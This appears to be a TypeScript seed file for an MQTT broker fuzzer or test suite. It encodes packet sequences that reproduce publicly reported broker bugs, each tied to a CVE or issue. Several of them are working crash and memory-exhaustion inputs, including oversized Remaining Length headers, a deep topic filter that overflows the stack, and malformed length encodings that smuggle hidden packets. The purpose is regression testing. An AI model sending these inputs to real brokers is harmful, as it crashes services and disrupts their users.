/** Byte sequences of the kind that public bugs of brokers were about, each with the reference to its bug. */

import { connectOf, fence, publishOf, send, subscribeOf, topic } from '../generate/scenes.ts';
import { caseName } from '../record.ts';
import type { Script, Step } from '../script.ts';
import { hexOf, one, raw, type Seed, several } from './seed.ts';

const v3 = send(connectOf('v3', 'a'));
const v5 = send(connectOf('v5', 'a'));
const ping = send({ type: 'PINGREQ' });
/** Somebody who sees what the broker makes of the messages of client 0. */
const witness: readonly Step[] = [send(connectOf('v3', 'b'), 1), send(subscribeOf(0), 1), fence(1)];
const seen: readonly Step[] = [{ client: 0, do: 'close' }, fence(1)];
const will = { topic: `${caseName}/will`, payload: 'bye', qos: 0, retain: false } as const;

/** Remaining Length says 268,435,455, and little follows. */
const greatest = 'ff ff ff 7f';

function manyConnections(count: number, hex: string): Script {
  return {
    clients: Array.from({ length: count }, () => ({ version: 'v3' as const })),
    steps: Array.from({ length: count }, (_, client) => raw(hex, client)),
  };
}

export const known: readonly Seed[] = [
  {
    name: 'publish-without-topic-and-alias',
    about: 'CVE-2021-34432: a crash at a 5.0 PUBLISH with neither topic nor alias',
    script: one('v5', v5, send(publishOf(0, { topic: '' })), ping),
  },
  {
    name: 'publish-to-dollar',
    about: 'CVE-2018-12543: an abort at a PUBLISH to a topic that begins with $',
    script: one('v3', v3, send(publishOf(0, { topic: '$foo/bar' })), send(publishOf(1, { topic: '$' })), ping),
  },
  {
    name: 'subscribe-to-many-levels',
    about: 'CVE-2019-11779: the stack runs over at a Topic Filter of 65,401 levels',
    script: one(
      'v3',
      v3,
      { client: 0, do: 'send', packet: subscribeOf(0, '/'), bend: { 'filters.0.filter': { repeat: 65_400 } } },
      ping,
    ),
  },
  {
    name: 'will-with-content-type-first',
    about: 'mosquitto 1.6.2: use after free of the properties of a will whose first is Content Type',
    script: several(
      ['v5', 'v3'],
      ...witness,
      send(
        connectOf('v5', 'a', {
          will: { ...will, properties: { contentType: 'text/plain', correlationData: { hex: '00ff' } } },
        }),
      ),
      fence(0),
      { client: 0, do: 'drop' },
      fence(1),
    ),
  },
  {
    name: 'connack-from-client',
    about: 'CVE-2021-28166: a crash at a CONNACK that a 5.0 client sends',
    script: one('v5', v5, raw('29 02 00 01'), ping),
  },
  {
    name: 'connect-of-256-megabytes',
    about: 'CVE-2017-7651: memory for all that a CONNECT declares, on many connections',
    script: manyConnections(30, `10 ${greatest} 00 04 4d 51 54 54 04 02 00 3c`),
  },
  {
    name: 'publish-of-256-megabytes-first',
    about: 'CVE-2023-0809: memory for a first packet that is no CONNECT',
    script: manyConnections(30, `30 ${greatest} 00 01 61`),
  },
  {
    name: 'topic-that-is-no-text',
    about: 'CVE-2017-7653: a topic that is not UTF-8 is passed on, and makes others disconnect',
    script: several(
      ['v3', 'v3'],
      ...witness,
      v3,
      { client: 0, do: 'send', packet: publishOf(0), bend: { topic: { append: [0xff, 0xc0, 0xaf] } } },
      ping,
      ...seen,
    ),
  },
  {
    name: 'disconnect-with-properties-missing',
    about: 'aedes#612: an uncaught exception at a 5.0 DISCONNECT whose Property Length goes beyond its end',
    script: one('v5', v5, raw('e0 02 00 20')),
  },
  {
    name: 'subscribe-without-options',
    about: 'mochi-mqtt/server#501: a panic at a 5.0 SUBSCRIBE that ends before its options',
    script: one('v5', v5, { client: 0, do: 'send', packet: subscribeOf(0), bend: { 'filters.0.options': [] } }, ping),
  },
  {
    name: 'connect-flags-1f',
    about: 'FlashMQ#170: a CONNECT with the reserved flag and Will QoS 3 is accepted',
    script: one(
      'v3',
      { client: 0, do: 'send', packet: connectOf('v3', 'a', { will }), bend: { connectFlags: [0x1f] } },
      ping,
    ),
  },
  {
    name: 'remaining-length-of-five-bytes',
    about:
      'CVE-2026-40046: a Remaining Length of more than four bytes, in whose place the broker may take the body for packets',
    script: several(
      ['v3', 'v3'],
      ...witness,
      v3,
      raw(`30 80 80 80 80 00 30 10 00 0c ${hexOf(`${topic}/hid`)} 68 68`),
      ...seen,
    ),
  },
  {
    name: 'remaining-length-of-five-bytes-before-pings',
    about: 'CVE-2026-40046: as before, with PINGREQ packets in the body that must not be answered',
    script: one('v3', v3, raw('30 8c 80 80 80 00 c0 00 c0 00 c0 00 c0 00 c0 00 c0 00')),
  },
];
